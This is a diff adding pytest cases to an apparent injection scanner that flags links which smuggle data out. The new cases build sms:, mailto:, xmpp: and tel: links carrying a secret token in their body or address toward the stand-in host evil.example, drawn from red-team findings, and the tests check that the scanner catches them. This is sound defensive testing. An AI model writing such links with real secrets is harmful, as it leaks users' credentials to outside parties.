@@ -1,6 +1,7 @@
 """``link-url-data`` on real links of many languages (adversary16 D7: a length is counted as
 the server reads it, decoded), on tokens cut by punctuation inside one value (D5; adversary17
-D4: any mark, not a listed few) and on links of schemes with no host (adversary17 D12)."""
+D4: any mark, not a listed few) and on links of schemes with no host (adversary17 D12),
+linked or bare, their parameters after "?" or in their address (adversary19 D7)."""
 
 from __future__ import annotations
 
@@ -244,6 +245,60 @@ def test_a_link_with_no_host_carries_its_query_to_whom_it_addresses(link: str) -
 def test_an_ordinary_mail_link_or_a_data_link_carries_nothing(link: str) -> None:
     """A ``data:`` link is sent to no one."""
     assert injection.scan(f"Prose.\n\n{link}\n") == ()
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        f"sms:+15551234567&body={TOKEN}",  # iOS: the body after "&", no "?"
+        f"sms:/open?addresses=+15551234567,+15557654321&body={TOKEN}",
+        f"sms:+15551234567;body={TOKEN}",
+        f"mailto:a@evil.example?body={TOKEN}",
+        f"MaIlTo:a@evil.example?subject=hi&body={TOKEN[:16]}%20{TOKEN[16:]}",
+        f"mailto:{TOKEN}@evil.example",
+        f"xmpp:a@evil.example?message;body={TOKEN}",
+        f"tel:+15551234567;ext={TOKEN}",
+    ],
+)
+@pytest.mark.parametrize("form", ["Write to {} now.", "- [x]({})", "<{}>", "- {}"])
+def test_a_hostless_link_carries_its_address_parameters_linked_or_bare(url: str, form: str):
+    """adversary19 D7: iOS reads ``sms:<number>&body=…`` as a body; and linkify.js links a
+    ``mailto:`` in prose with its query (GFM its address): a link there too."""
+    text = f"Prose.\n\n{form.format(url)}\n"
+    found = injection.scan(text)
+    assert [(m.rule, m.host, m.start, m.text) for m in found] == [
+        ("link-url-data", None, text.index(url), url)
+    ]
+
+
+def test_a_bare_hostless_link_in_emphasis_is_a_link() -> None:
+    """A linkifier reads the rendered text, where ``_…_`` is emphasis around the URL."""
+    url = f"mailto:a@evil.example?body={TOKEN}"
+    found = injection.scan(f"Prose.\n\nWrite _{url}_ now.\n")
+    assert [(m.rule, m.start) for m in found] == [("link-url-data", len("Prose.\n\nWrite _"))]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Write to mailto:a@b.example?subject=Hello%20there or call tel:+1-555-123-4567.",
+        "Text sms:+15551234567 or sms:+15551234567&body=Running%20late%2C%20ETA%2010min.",
+        "- Hotel: the Ritz; SMS: no; Tel: 555-0123; mailto: later; xmpp: none",
+        "Call tel:+1-201-555-0123;ext=1234 or mailto:jane.doe@example.com,john@example.com",
+        "sms:/open?addresses=+15551234567,+15557654321&body=See%20you%20at%208",
+        "mailto:support@example.com?subject=Bug%20report%20(v2.3.1)&body=Hi%20team%2C%20see%20ABC-1234.",
+        "xmpp:romeo@montague.net?message;subject=Hi;body=Wherefore%20art%20thou",
+    ],
+)
+def test_an_ordinary_hostless_link_in_prose_carries_nothing(text: str) -> None:
+    assert injection.scan(f"Prose.\n\n{text}\n") == ()
+
+
+def test_a_hosts_path_is_not_read_as_parameters() -> None:
+    """Only a URL with no host has parameters in its address; a path's "&" stays a path's."""
+    assert url_data.carries(f"sms:+15551234567&body={TOKEN}")
+    assert not url_data.carries(f"https://example.com/a&b={TOKEN}/x")
+    assert not url_data.carries(f"https://example.com/a;b={TOKEN}")
 
 
 @pytest.mark.parametrize("opened", ["({})", "[{}]", "{{{}}}", '"{}"', "x({})", "{}^"])
